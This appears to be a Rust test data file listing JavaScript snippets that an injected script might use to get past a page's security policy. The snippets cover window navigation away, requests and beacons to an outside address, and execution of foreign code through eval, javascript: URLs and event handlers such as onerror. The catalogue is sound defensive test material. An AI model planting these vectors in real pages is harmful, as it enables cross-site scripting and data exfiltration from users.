//! The ways a script that got into the page may try to lead the window, a request or code of its own past
//! the policy. Each is run with `address`, a place outside, and with these tools; the list is data alone.

/// What the scripts below are written with. `ran` is called by code that must not run.
pub const TOOLS: &str = "const [address] = arguments;
    window.ran ??= [];
    const put = (kind, attributes, where = document.body) => {
        const made = document.createElement(kind);
        Object.entries(attributes).forEach(([name, value]) => made.setAttribute(name, value));
        where.append(made);
        return made;
    };
    const link = (attributes) => put('a', { href: address, ...attributes });
    const press = (on, more = {}) =>
        on.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ...more }));
    const drawn = (kind, attributes) => {
        const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
        const made = document.createElementNS('http://www.w3.org/2000/svg', kind);
        Object.entries(attributes).forEach(([name, value]) => made.setAttribute(name, value));
        svg.append(made);
        document.body.append(svg);
        return made;
    };
    const styled = (name, value) => put('p', {}).style.setProperty(name, value);
    const ruled = (rule) => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(rule);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
        put('p', { class: 'out' }).textContent = 'out';
    };
    const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
";

/// Those that would lead the window itself away, or open another: tried one by one.
pub const AWAY: [(&str, &str); 34] = [
    ("an address", "location.href = address;"),
    ("an address of the document", "document.location = address;"),
    ("an address in place of this one", "location.replace(address);"),
    ("an assigned address", "location.assign(address);"),
    ("another host", "location.host = address.split('/')[2];"),
    ("another scheme", "location.protocol = 'http:';"),
    ("an entry of the history", "history.pushState({}, '', address);"),
    ("a navigation", "navigation.navigate(address);"),
    ("a link", "link({}).click();"),
    ("a link with Ctrl", "press(link({}), { ctrlKey: true });"),
    ("a link with Shift", "press(link({}), { shiftKey: true });"),
    ("a link by the middle button", "press(link({}), { button: 1 });"),
    ("a link to another window", "link({ target: '_blank' }).click();"),
    ("a link to a named window", "link({ target: 'other' }).click();"),
    ("a link to the whole window", "link({ target: '_top' }).click();"),
    ("a link to the window above", "link({ target: '_parent' }).click();"),
    ("a link that is drawn", "press(drawn('a', { href: address }));"),
    ("a part of a picture", "put('area', { href: address }, put('map', { name: 'out' })).click();"),
    (
        "a link from another base",
        "put('base', { href: address }, document.head); put('a', { href: 'out' }).click();",
    ),
    ("a download", "link({ download: 'x' }).click();"),
    ("a download of data", "put('a', { href: 'data:text/plain,x', download: 'x' }).click();"),
    ("a download of a blob", "put('a', { href: blob('x', 'text/plain'), download: 'x' }).click();"),
    (
        "a refresh",
        "put('meta', { 'http-equiv': 'refresh', content: `0;url=${address}` }, document.head);",
    ),
    ("a window in this one", "window.open(address, '_self');"),
    ("a window above this one", "window.open(address, '_top');"),
    ("a window", "window.open(address);"),
    ("a window that does not know this one", "window.open(address, '_blank', 'noopener');"),
    ("a form that is sent", "put('form', { action: address, method: 'post' }).submit();"),
    ("a form in the address", "put('form', { action: address, method: 'get' }).requestSubmit();"),
    (
        "a button with an address of its own",
        "put('button', { formaction: address }, put('form', { method: 'post' })).click();",
    ),
    ("a form to another window", "put('form', { action: address, target: '_blank' }).submit();"),
    ("a page of data", "location.href = `data:text/html,<img src=${address}>`;"),
    ("a page of a blob", "location.href = blob(`<img src=${address}>`, 'text/html');"),
    ("a file", "location.href = 'file:///etc/hostname';"),
];

/// Those that would only ask: tried all at once.
pub const REQUESTS: [(&str, &str); 54] = [
    ("a fetch", "fetch(address).catch(() => {});"),
    ("a fetch that wants no answer", "fetch(address, { mode: 'no-cors' }).catch(() => {});"),
    (
        "a fetch that outlives the page",
        "fetch(address, { method: 'POST', body: 'x', keepalive: true }).catch(() => {});",
    ),
    ("a request", "const r = new XMLHttpRequest(); r.open('GET', address); r.send();"),
    (
        "a request with a body",
        "const r = new XMLHttpRequest(); r.open('POST', address); r.send('x');",
    ),
    (
        "a request at once",
        "const r = new XMLHttpRequest(); r.open('GET', address, false); r.send();",
    ),
    ("a web socket", "new WebSocket(address.replace('http', 'ws'));"),
    ("a stream of events", "new EventSource(address);"),
    ("a beacon", "navigator.sendBeacon(address, 'x');"),
    ("a ping", "put('a', { href: '#', ping: address }).click();"),
    ("a transport", "new WebTransport(address.replace('http', 'https'));"),
    (
        "a call",
        "const at = address.split('/')[2];
         const call = new RTCPeerConnection({ iceServers: [{ urls: `turn:${at}?transport=tcp`,
             username: 'x', credential: 'x' }] });
         call.createDataChannel('x');
         call.createOffer().then((offer) => call.setLocalDescription(offer));",
    ),
    ("a connection ahead", "put('link', { rel: 'preconnect', href: address }, document.head);"),
    ("a name ahead", "put('link', { rel: 'dns-prefetch', href: address }, document.head);"),
    ("a page ahead", "put('link', { rel: 'prefetch', href: address }, document.head);"),
    ("a drawn page ahead", "put('link', { rel: 'prerender', href: address }, document.head);"),
    (
        "a script ahead",
        "put('link', { rel: 'preload', as: 'script', href: address }, document.head);",
    ),
    (
        "an image ahead",
        "put('link', { rel: 'preload', as: 'image', href: address }, document.head);",
    ),
    (
        "a font ahead",
        "put('link', { rel: 'preload', as: 'font', href: address, crossorigin: '' }, document.head);",
    ),
    (
        "an answer ahead",
        "put('link', { rel: 'preload', as: 'fetch', href: address, crossorigin: '' },
            document.head);",
    ),
    ("a module ahead", "put('link', { rel: 'modulepreload', href: address }, document.head);"),
    ("a style sheet", "put('link', { rel: 'stylesheet', href: address }, document.head);"),
    ("an icon", "put('link', { rel: 'icon', href: address }, document.head);"),
    ("a manifest", "put('link', { rel: 'manifest', href: address }, document.head);"),
    ("an image", "put('img', { src: address });"),
    ("an image that is not shown", "new Image().src = address;"),
    ("an image of several", "put('img', { srcset: `${address} 1x` });"),
    (
        "an image of a picture",
        "const picture = put('picture', {});
         put('source', { srcset: address }, picture); put('img', {}, picture);",
    ),
    ("a button that is an image", "put('input', { type: 'image', src: address });"),
    ("a film", "put('video', { src: address, preload: 'auto' });"),
    ("the image of a film", "put('video', { poster: address });"),
    ("a sound", "put('audio', { src: address, preload: 'auto' });"),
    (
        "the text of a film",
        "put('track', { src: address, default: '' }, put('video', {})).track.mode = 'showing';",
    ),
    ("an image that is drawn", "drawn('image', { href: address });"),
    ("a shape from elsewhere", "drawn('use', { href: `${address}#x` });"),
    ("an effect from elsewhere", "drawn('feImage', { href: address });"),
    ("a background", "styled('background-image', `url(${address})`);"),
    ("a pointer", "styled('cursor', `url(${address}), auto`);"),
    ("a sign of a list", "styled('list-style-image', `url(${address})`);"),
    ("a border", "styled('border-image-source', `url(${address})`);"),
    ("a mask", "styled('mask-image', `url(${address})`);"),
    ("a rule's background", "ruled(`.out { background: url(${address}); }`);"),
    ("a rule's content", "ruled(`.out::before { content: url(${address}); }`);"),
    (
        "a rule's font",
        "ruled(`@font-face { font-family: out; src: url(${address}); } .out { font-family: out; }`);",
    ),
    ("a font", "new FontFace('out', `url(${address})`).load().catch(() => {});"),
    ("a frame", "put('iframe', { src: address });"),
    ("a frame of its own text", "put('iframe', { srcdoc: `<img src=${address}>` });"),
    ("an object", "put('object', { data: address });"),
    ("an embedded object", "put('embed', { src: address });"),
    ("a script", "put('script', { src: address });"),
    ("a module", "put('script', { type: 'module', src: address });"),
    ("a worker", "new Worker(address);"),
    ("a shared worker", "new SharedWorker(address);"),
    ("a worker that serves", "navigator.serviceWorker.register(address).catch(() => {});"),
];

/// Those that would run code that is not the program's: tried all at once.
pub const CODE: [(&str, &str); 22] = [
    ("a text", "eval('ran.push(1)');"),
    ("a text as a function", "new Function('ran.push(1)')();"),
    ("a text as a generator", "(function* () {}).constructor('ran.push(1)')().next();"),
    ("a text as a later function", "(async () => {}).constructor('ran.push(1)')();"),
    ("a text of a timer", "setTimeout('ran.push(1)', 0);"),
    ("a text of a clock", "const clock = setInterval('ran.push(1)', 10);"),
    ("a script of its own", "put('script', {}).textContent = 'ran.push(1)';"),
    (
        "a script in a page",
        "document.body.insertAdjacentHTML('beforeend', '<script>ran.push(1)</script>');",
    ),
    ("a script of data", "put('script', { src: 'data:text/javascript,ran.push(1)' });"),
    ("a script of a blob", "put('script', { src: blob('ran.push(1)', 'text/javascript') });"),
    ("a module of its own", "put('script', { type: 'module' }).textContent = 'ran.push(1)';"),
    (
        "a module of data",
        "put('script', { type: 'module', src: 'data:text/javascript,ran.push(1)' });",
    ),
    (
        "a worker of a blob",
        "new Worker(blob('postMessage(1)', 'text/javascript')).onmessage = () => ran.push(1);",
    ),
    ("a failing image", "put('img', { src: 'data:,', onerror: 'ran.push(1)' });"),
    ("a press", "put('button', { onclick: 'ran.push(1)' }).click();"),
    ("a link that is code", "put('a', { href: 'javascript:ran.push(1)' }).click();"),
    ("an address that is code", "location.href = 'javascript:ran.push(1)';"),
    ("a frame that is code", "put('iframe', { src: 'javascript:parent.ran.push(1)' });"),
    ("a frame with a script", "put('iframe', { srcdoc: '<script>parent.ran.push(1)</script>' });"),
    ("a drawing", "drawn('set', { onbegin: 'ran.push(1)', attributeName: 'x', to: '1' });"),
    ("a script that is drawn", "drawn('script', {}).textContent = 'ran.push(1)';"),
    ("details that open", "put('details', { open: '', ontoggle: 'ran.push(1)' });"),
];
